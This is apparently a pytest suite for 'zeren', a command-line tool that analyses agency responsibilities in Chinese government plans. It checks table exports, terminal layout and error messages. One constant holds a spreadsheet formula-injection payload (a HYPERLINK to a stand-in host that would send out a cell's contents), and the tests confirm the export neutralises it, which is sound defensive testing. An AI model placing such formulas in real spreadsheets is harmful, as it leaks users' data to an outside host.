"""Tables that read and nothing silently empty: the table commands run as a user runs them."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

ZEREN = [sys.executable, "-m", "zeren"]
EVIL = '=HYPERLINK("http://x/?d="&C3)(牵头单位:住建局;责任单位:财政局)'


def run(*args, columns: int | None = None) -> subprocess.CompletedProcess:
    env = (
        {**os.environ, "COLUMNS": str(columns)}
        if columns
        else {k: v for k, v in os.environ.items() if k != "COLUMNS"}
    )
    return subprocess.run([*ZEREN, *map(str, args)], capture_output=True, text=True, timeout=300, env=env)


@pytest.fixture(scope="module")
def graph(samples_dir, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("g") / "graph.json"
    assert run("build", samples_dir, "-o", path).returncode == 0
    return path


# --- issue 12 row 1: spreadsheet formula injection --------------------------------------------


@pytest.fixture(scope="module")
def evil(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("evil")
    (folder / "f.txt").write_text(f"青山县安居工程实施方案\n{EVIL}\n", encoding="utf-8")
    return folder / "f.txt"


def test_a_formula_in_a_plan_line_is_not_a_formula_in_xlsx(evil, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "h.xlsx"
    assert run("hotspots", evil, "--format", "xlsx", "-o", out).returncode == 0
    cells = [c for row in load_workbook(out)["hotspot_tasks"].iter_rows() for c in row]
    texts = [c for c in cells if "HYPERLINK" in str(c.value)]
    assert texts, "the task text should be in the sheet"
    for cell in texts:
        assert cell.data_type == "s" and cell.value.startswith("'=")
    assert not any(c.data_type == "f" for c in cells)


def test_a_formula_in_a_plan_line_is_neutralised_in_csv_and_the_agency_table(evil, tmp_path):
    body = run("hotspots", evil, "--format", "csv").stdout
    assert "'=HYPERLINK" in body and ',"=HYPERLINK' not in body
    # a spelling that starts like a formula, in the hand-editable agency table, and read back unchanged
    doc = tmp_path / "d.txt"
    doc.write_text("青山县方案\n一、任务\n1.修路。(牵头单位:=1+2局)\n", encoding="utf-8")
    table = tmp_path / "agencies.tsv"
    assert run("agencies", doc, "-o", table).returncode == 0
    text = table.read_text(encoding="utf-8")
    assert "\t'=1+2局" in text and "\t=1+2局" not in text
    from zeren.graph.aliases import load_overrides

    assert any(key[1] == "=1+2局" for key in load_overrides(table).entries)


# --- xlsx and long format ---------------------------------------------------------------------


def test_xlsx_has_one_sheet_per_table_widths_frozen_header_and_filter(graph, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "h.xlsx"
    assert run("hotspots", graph, "--format", "xlsx", "-o", out).returncode == 0
    book = load_workbook(out)
    assert book.sheetnames == [
        "hotspot_tasks",
        "multi_lead_tasks",
        "agency_pairs",
        "brokers",
        "deadline_pileups",
    ]
    sheet = book["hotspot_tasks"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:H{sheet.max_row}"
    assert sheet["A1"].font.bold
    widths = {c: sheet.column_dimensions[c].width for c in "ABCDEFGH"}
    assert widths["D"] == 60 and widths["H"] < 20  # text capped and wrapped, a count narrow
    assert [p.name for p in tmp_path.iterdir()] == ["h.xlsx"]  # written through a temporary file


def test_long_format_has_one_row_per_task_party_role(graph, tmp_path):
    rows = json.loads(run("responsibilities", graph, "--format", "json").stdout)
    edges = json.loads(Path(graph).read_text(encoding="utf-8"))
    key = "edges" if "edges" in edges else "links"
    roles = [e for e in edges[key] if e.get("key") in ("LEADS", "SUPPORTS")]
    assert len(rows) == len(roles)
    assert {"doc", "date", "plan", "task", "text", "deadline", "party", "role", "source", "line"} <= rows[
        0
    ].keys()
    assert all(r["role"] in ("LEADS", "SUPPORTS") and r["date"] for r in rows)


# --- terminal tables --------------------------------------------------------------------------


@pytest.mark.parametrize("width", [80, 120])
@pytest.mark.parametrize(
    "command", [["workload"], ["hotspots"], ["gaps"], ["leader-workload"], ["responsibilities"]]
)
def test_terminal_tables_fit_and_no_header_is_cut(graph, width, command):
    result = run(*command, graph, columns=width)
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    from rich.cells import cell_len

    assert max(cell_len(line) for line in lines) <= width
    for line in lines:
        if line.startswith("┃"):  # a header row: every header whole
            headers = [h.strip() for h in line.strip("┃").split("┃")]
            assert all(h and "…" not in h for h in headers), line
    body = [line for line in lines if line.startswith("│")]
    assert body and all(
        "…" not in cell
        for line in body
        for cell in line.split("│")
        if cell.strip().replace(".", "").isdigit()
    )


def test_numbers_keep_their_width_when_text_is_cut(graph):
    out = run("workload", graph, columns=80).stdout
    rows = [line for line in out.splitlines() if line.startswith("│")]
    # led / supported / load are whole numbers, never "…"
    assert all(cell.strip() and "…" not in cell for line in rows[:5] for cell in line.split("│")[2:5])


# --- --top honoured by every ranking command --------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        ["workload", "G"],
        ["leader-workload", "G"],
        ["hotspots", "G"],
        ["compare", "G", "--left", "2025", "--right", "2025"],
        ["query", "brokers", "G"],
        ["progress", "G"],
    ],
)
def test_top_is_honoured(graph, command):
    result = run(*(graph if a == "G" else a for a in command), "--top", "2", "--format", "json")
    assert result.returncode == 0, result.stderr
    payload = json.loads(result.stdout)
    tables = payload.values() if isinstance(payload, dict) else [payload]
    assert all(len(t) <= 2 for t in tables) and any(len(t) == 2 for t in tables)


# --- nothing silently empty -------------------------------------------------------------------


def test_an_agency_is_found_by_any_spelling_zeren_knows(graph):
    data = json.loads(Path(graph).read_text(encoding="utf-8"))
    unit = next(
        n for n in data["nodes"] if n.get("kind") == "Agency" and any(s != n["name"] for s in n["spellings"])
    )
    spelling = next(s for s in unit["spellings"] if s != unit["name"])
    rows = json.loads(run("agency", graph, "--agency", spelling, "--format", "json").stdout)
    assert rows and {r["agency"] for r in rows} >= {unit["id"]}


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["agency", "--agency", "县财政句"],
            "Error: no agency or leader '县财政句' in the graph; did you mean ",
        ),
        (
            ["workload", "--plan", "园区经济"],
            "Error: no plan '园区经济' in the graph; did you mean '青山县2025年园区经济攻坚行动方案'",
        ),
        (
            ["workload", "--doc", "qingshan"],
            "Error: no document 'qingshan' in the graph; did you mean 'qingshan-2025-park-campaign'",
        ),
        (["workload", "--level", "city"], "Error: no agency of level 'city' in the graph (levels: national,"),
        (
            ["workload", "--jurisdiction", "青山"],
            "Error: no jurisdiction '青山' in the graph; did you mean '青山县'",
        ),
        (
            ["workload", "--level", "prefecture", "--plan", "青山县2025年园区经济攻坚行动方案"],
            "Error: no rows match --level prefecture, --plan 青山县2025年园区经济攻坚行动方案",
        ),
    ],
)
def test_unknown_names_and_empty_filters_fail_with_the_closest_names(graph, args, message):
    result = run(args[0], graph, *args[1:])
    assert result.returncode == 1
    assert result.stderr.strip().startswith(message), result.stderr
    assert result.stdout == ""


def test_options_that_cannot_apply_are_refused(graph, tmp_path):
    table = tmp_path / "agencies.tsv"
    table.write_text("spelling\tcanonical\n", encoding="utf-8")
    for command in (["workload"], ["agencies", "-o", tmp_path / "a.tsv"]):
        result = run(command[0], graph, *command[1:], "--aliases", table)
        assert result.returncode == 1
        assert "--aliases applies when reading documents, not to a saved graph" in result.stderr


def test_compare_by_year_refuses_undated_documents_and_names_them(samples_dir, tmp_path):
    docs = tmp_path / "docs"
    docs.mkdir()
    for sample in samples_dir.glob("*.txt"):
        (docs / sample.name).write_bytes(sample.read_bytes())
    (docs / "nodate.txt").write_text(
        "青山县物流方案\n一、任务\n1.建设物流园。(牵头单位:县商务局)\n", encoding="utf-8"
    )
    graph = tmp_path / "g.json"
    assert run("build", docs, "-o", graph).returncode == 0
    result = run("compare", graph, "--left", "2024", "--right", "2025")
    assert result.returncode == 1
    assert "cannot compare by year: 1 document(s) have no known date (nodate)" in result.stderr
    by_id = run("compare", graph, "--left", "nodate", "--right", "qingshan-2025-park-campaign")
    assert by_id.returncode == 0, by_id.stderr


def test_viz_refuses_options_its_view_does_not_use(graph, tmp_path):
    result = run("viz", graph, "--view", "coresponsibility", "--level", "county", "-o", tmp_path / "v.html")
    assert result.returncode == 1
    assert result.stderr.strip() == "Error: --level does not apply to --view coresponsibility"
    assert not (tmp_path / "v.html").exists()


@pytest.mark.neo4j
def test_compare_by_year_on_neo4j_refuses_undated_documents(neo4j_driver, neo4j_env, samples_dir, tmp_path):
    from neo4j_fixtures import load_into

    from zeren.graph.build import build_graph
    from zeren.loaders.batch import extract_paths
    from zeren.loaders.extract import parse_document

    batch = extract_paths([samples_dir])
    undated = parse_document(
        "青山县物流方案\n一、任务\n1.建设物流园。(牵头单位:县商务局)\n", source="nodate.txt", doc="nodate"
    )
    load_into(neo4j_driver, build_graph([*batch.extractions, undated]))
    env = {**os.environ, **neo4j_env}
    result = subprocess.run(
        [*ZEREN, "compare", "--backend", "neo4j", "--left", "2024", "--right", "2025"],
        capture_output=True, text=True, timeout=300, env=env,
    )  # fmt: skip
    assert result.returncode == 1
    assert "cannot compare by year: 1 document(s) have no known date (nodate)" in result.stderr


def test_viz_checks_names_against_the_graph(graph, tmp_path):
    blank = run("viz", graph, "--level", "县", "-o", tmp_path / "v.html")
    assert blank.returncode == 1 and "no agency of level '县' in the graph" in blank.stderr
    data = json.loads(Path(graph).read_text(encoding="utf-8"))
    unit = next(
        n for n in data["nodes"] if n.get("kind") == "Agency" and any(s != n["name"] for s in n["spellings"])
    )
    spelling = next(s for s in unit["spellings"] if s != unit["name"])
    ego = run("viz", graph, "--view", "ego", "--agency", spelling, "-o", tmp_path / "ego.html")
    assert ego.returncode == 0, ego.stderr
    assert unit["name"] in (tmp_path / "ego.html").read_text(encoding="utf-8")
